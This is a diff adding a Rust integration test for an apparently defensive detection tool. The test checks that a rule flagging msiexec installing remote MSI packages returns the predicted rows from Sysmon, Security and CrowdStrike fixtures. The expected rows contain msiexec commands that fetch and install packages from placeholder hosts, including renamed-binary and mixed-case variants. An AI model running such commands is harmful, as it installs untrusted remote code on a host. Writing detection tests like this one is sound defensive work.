@@ -1,0 +1,206 @@
+//! The seed detection end to end (read → decode → normalize → match → aggregate → stages) over
+//! the project's own fixtures in `tests/fixtures/seed`, compared field by field with the rows the
+//! spec predicts. The same rows must come out whatever the thread count and with or without the
+//! prefilter.
+
+use std::path::{Path, PathBuf};
+
+use cimhunt_content::embedded_default;
+use cimhunt_exec::{ExecOptions, Executor, Row, Value};
+use cimhunt_normalize::Normalizer;
+use cimhunt_pipeline::{Job, Prefilter, Quiet, run};
+use cimhunt_read::Input;
+use cimhunt_spl::compile;
+
+fn fixtures() -> Vec<PathBuf> {
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/seed");
+    ["sysmon.log", "security.log", "crowdstrike.jsonl"]
+        .iter()
+        .map(|f| dir.join(f))
+        .collect()
+}
+
+fn seed_rows(threads: usize, prefilter: bool, block_size: Option<usize>) -> (Vec<Row>, u64) {
+    let (detection, macros) = embedded_default();
+    let compiled = compile(&detection.search, &macros).expect("seed compiles");
+    let mut job = Job::new(vec![compiled.plan.clone()], Normalizer::default());
+    job.threads = threads;
+    if !prefilter {
+        job.prefilter = Prefilter::admit_all();
+    }
+    if let Some(size) = block_size {
+        job.reader.block_size = size;
+    }
+    let inputs = fixtures().into_iter().map(Input::path).collect();
+    let result = run(&job, inputs, &mut Quiet);
+    assert_eq!(result.stats.skipped_records, 0);
+    let groups = result.groups.into_iter().next().unwrap();
+    let rows = Executor::new(&compiled.plan)
+        .finish(groups, &ExecOptions::default())
+        .unwrap();
+    (rows, result.stats.process_events)
+}
+
+/// One expected row, columns in the seed's output order.
+#[allow(clippy::too_many_arguments)]
+fn row(
+    dest: &str,
+    user: &str,
+    parent: &str,
+    name: &str,
+    original: &str,
+    process: &str,
+    pid: &str,
+    ppid: &str,
+    count: u64,
+    first: &str,
+    last: &str,
+) -> Row {
+    let text = |s: &str| Value::Text(s.to_owned());
+    [
+        ("dest", text(dest)),
+        ("user", text(user)),
+        ("parent_process_name", text(parent)),
+        ("process_name", text(name)),
+        ("original_file_name", text(original)),
+        ("process", text(process)),
+        ("process_id", text(pid)),
+        ("parent_process_id", text(ppid)),
+        ("count", Value::Number(count.to_string())),
+        ("firstTime", text(first)),
+        ("lastTime", text(last)),
+    ]
+    .into_iter()
+    .map(|(n, v)| (n.to_owned(), v))
+    .collect()
+}
+
+fn expected() -> Vec<Row> {
+    vec![
+        // Upper/mixed-case binary and scheme: matched case-insensitively, shown as written.
+        row(
+            "a-mixedcase",
+            "ana",
+            "cmd.exe",
+            "MsiExec.EXE",
+            "msiexec.exe",
+            "MsiExec.EXE /I HTTPS://Mixed.Example/Pkg.MSI /qn",
+            "100",
+            "10",
+            1,
+            "2026-01-05T10:00:00",
+            "2026-01-05T10:00:00",
+        ),
+        // A renamed binary, caught only by original_file_name.
+        row(
+            "b-renamed",
+            "ben",
+            "services.exe",
+            "inst.exe",
+            "msiexec.exe",
+            "inst.exe /i http://r.example/x.msi",
+            "200",
+            "20",
+            1,
+            "2026-01-05T10:01:00",
+            "2026-01-05T10:01:00",
+        ),
+        // (c-unc: a UNC path, d-malformed: `http:/`, e-parent-only: the URL is only in the
+        // parent's command line — no rows.)
+        // Two events in one group.
+        row(
+            "f-group",
+            "fay",
+            "cmd.exe",
+            "msiexec.exe",
+            "msiexec.exe",
+            "msiexec /i http://g.example/a.msi",
+            "600",
+            "60",
+            2,
+            "2026-01-05T10:05:00",
+            "2026-01-05T10:09:30",
+        ),
+        // Entities stay escaped, as in XmlWinEventLog.
+        row(
+            "g-entities",
+            "gil",
+            "cmd.exe",
+            "msiexec.exe",
+            "msiexec.exe",
+            r#"msiexec /i "http://e.example/a.msi?x=1&amp;y=2" &amp;&amp; echo &lt;done&gt;"#,
+            "800",
+            "80",
+            1,
+            "2026-01-05T10:10:00",
+            "2026-01-05T10:10:00",
+        ),
+        // Non-ASCII text.
+        row(
+            "h-unicode",
+            "Zoë",
+            "explorer.exe",
+            "msiexec.exe",
+            "msiexec.exe",
+            "msiexec /i https://ü.example/файл.msi",
+            "900",
+            "90",
+            1,
+            "2026-01-05T10:11:00",
+            "2026-01-05T10:11:00",
+        ),
+        // Security 4688: command line rebuilt on NewProcessName, hex ids, no original_file_name.
+        row(
+            "i-security",
+            "bob",
+            "explorer.exe",
+            "msiexec.exe",
+            "unknown",
+            r"C:\Windows\System32\msiexec.exe /i https://w.example/a.msi",
+            "0x1f4",
+            "0x2a",
+            1,
+            "2026-01-05T11:00:00",
+            "2026-01-05T11:00:00",
+        ),
+        // CrowdStrike ProcessRollup2.
+        row(
+            "j-crowdstrike",
+            "kim",
+            "winword.exe",
+            "msiexec.exe",
+            "unknown",
+            "msiexec.exe /package http://c.example/a.msi",
+            "1212",
+            "987654321",
+            1,
+            "2026-01-05T12:00:00",
+            "2026-01-05T12:00:00",
+        ),
+    ]
+}
+
+#[test]
+fn seed_detection_returns_exactly_the_predicted_rows() {
+    let (rows, process_events) = seed_rows(1, true, None);
+    assert_eq!(rows, expected());
+    // Process events decoded: the prefilter let only msiexec records through (all but the
+    // fixture whose process is notepad.exe, which mentions msiexec in its parent).
+    assert_eq!(process_events, 11);
+}
+
+#[test]
+fn rows_are_identical_across_threads_block_sizes_and_prefilter() {
+    let reference = expected();
+    for threads in [1, 2, 4] {
+        for prefilter in [true, false] {
+            for block in [None, Some(4096), Some(97)] {
+                let (rows, _) = seed_rows(threads, prefilter, block);
+                assert_eq!(
+                    rows, reference,
+                    "threads {threads}, prefilter {prefilter}, block {block:?}"
+                );
+            }
+        }
+    }
+}
